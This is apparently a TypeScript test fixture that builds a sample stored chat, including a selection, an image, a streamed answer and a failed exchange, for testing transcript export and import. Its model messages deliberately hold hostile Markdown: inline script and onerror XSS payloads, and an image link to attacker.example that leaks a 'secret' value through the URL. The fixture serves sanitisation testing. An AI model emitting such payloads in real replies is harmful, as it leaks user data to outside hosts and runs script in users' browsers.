// A chat as the store keeps it, with the parts that make export and import hard: a selection block,
// an inline image, a streamed answer in pieces with a thought signature, hostile Markdown from the
// model, and a failed exchange that is shown but not part of the conversation.
import { TRANSCRIPT_VERSION, type ChatRecord } from '../../../src/core/transcript';
import { PNG } from '../attachments/tempWorkspace';

export function sampleChat(): ChatRecord {
  return {
    version: TRANSCRIPT_VERSION,
    id: 'chat-1',
    title: 'Why <b>does</b> add() fail?',
    model: 'gemini-2.5-flash',
    config: { temperature: 0.2 },
    createdAt: Date.UTC(2026, 10, 20, 9, 30),
    updatedAt: Date.UTC(2026, 10, 20, 9, 45),
    exchanges: [
      {
        id: 'ex-1',
        createdAt: Date.UTC(2026, 10, 20, 9, 30),
        text: 'Why does this fail?',
        attachments: [
          { id: 'a1', label: 'math.ts:3-4', kind: 'selection', mimeType: 'text/plain', size: 38, detail: 'src/math.ts:3-4', partCount: 1 },
          { id: 'a2', label: 'shot.png', kind: 'image', mimeType: 'image/png', size: PNG.length, detail: 'shot.png', partCount: 2 },
        ],
        user: {
          role: 'user',
          parts: [
            { text: 'src/math.ts (lines 3-4):\n```typescript\nexport const add = (a, b) =>\n  a - b;\n```\n' },
            { text: 'shot.png:' },
            { inlineData: { mimeType: 'image/png', data: PNG.toString('base64') } },
            { text: 'Why does this fail?' },
          ],
        },
        model: [
          { role: 'model', parts: [{ text: 'It subtracts. ', thoughtSignature: 'c2lnLTE=' }] },
          { role: 'model', parts: [{ text: 'Fix:\n\n```ts\nexport const add = (a, b) =>\n  a + b; // <img src=x onerror=alert(1)>\n```\n\n' }] },
          { role: 'model', parts: [{ text: 'See ![chart](https://attacker.example/leak?d=secret) and <img src="https://attacker.example/p.png"> <script>alert(1)</script>' }] },
        ],
        status: 'complete',
        finishReason: 'STOP',
      },
      {
        id: 'ex-2',
        createdAt: Date.UTC(2026, 10, 20, 9, 40),
        text: 'And now?',
        attachments: [],
        user: { role: 'user', parts: [{ text: 'And now?' }] },
        model: [],
        status: 'error',
        error: { message: 'The model is overloaded (503).' },
      },
      {
        id: 'ex-3',
        createdAt: Date.UTC(2026, 10, 20, 9, 44),
        text: 'Thanks, and `b`?',
        attachments: [],
        user: { role: 'user', parts: [{ text: 'Thanks, and `b`?' }] },
        model: [{ role: 'model', parts: [{ text: 'b is fine.' }] }],
        status: 'complete',
        finishReason: 'STOP',
        usage: { promptTokenCount: 120, candidatesTokenCount: 4, totalTokenCount: 124 },
      },
    ],
  };
}
